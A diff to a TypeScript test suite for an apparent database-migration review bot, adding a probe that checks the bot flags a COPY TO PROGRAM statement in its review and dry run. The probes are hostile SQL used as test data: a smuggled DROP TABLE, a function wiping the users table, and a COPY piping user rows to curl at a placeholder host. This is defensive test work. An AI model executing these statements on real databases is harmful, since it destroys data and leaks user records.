@@ -14,7 +14,7 @@ import { copyHistory, HISTORY } from '../support/migration-folders.ts';
 // applied the shipped history, the probe is the one pending migration, and what matters is
 // what the review message posted in the channel shows the approvers, and whether the requester
 // had to type the environment's name.
-const PROBES: { name: string; sql: string; shows: string; category: RegExp }[] = [
+const PROBES: { name: string; sql: string; shows: string; category: RegExp; dryRun?: RegExp }[] = [
   {
     name: 'a statement after the breakpoint marker on the same line',
     sql: 'SELECT 1; --> statement-breakpoint DROP TABLE "users" CASCADE;',
@@ -38,6 +38,14 @@ const PROBES: { name: string; sql: string; shows: string; category: RegExp }[] =
     sql: 'CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM "users" $$;\n--> statement-breakpoint\nSELECT wipe();',
     shows: 'wipe',
     category: /destructive/,
+  },
+  {
+    // PGlite answers this COPY and then hangs on the next query: the dry run must not run it.
+    name: 'a copy of a table to a server program',
+    sql: `COPY "users" TO PROGRAM 'curl -d @- https://example.invalid';`,
+    shows: 'TO PROGRAM',
+    category: /unreviewable/,
+    dryRun: /COPY … TO PROGRAM/,
   },
   {
     name: 'a privilege change',
@@ -87,6 +95,7 @@ describe('the review message shows what an evasion hides', () => {
         expect(review).toContain(JSON.stringify(probe.shows).slice(1, -1));
         expect(review).toMatch(probe.category);
         expect(review).not.toMatch(/no findings|Every statement parsed and no rule fired/);
+        if (probe.dryRun) expect(review).toMatch(probe.dryRun);
       } finally {
         await bot.stop();
       }
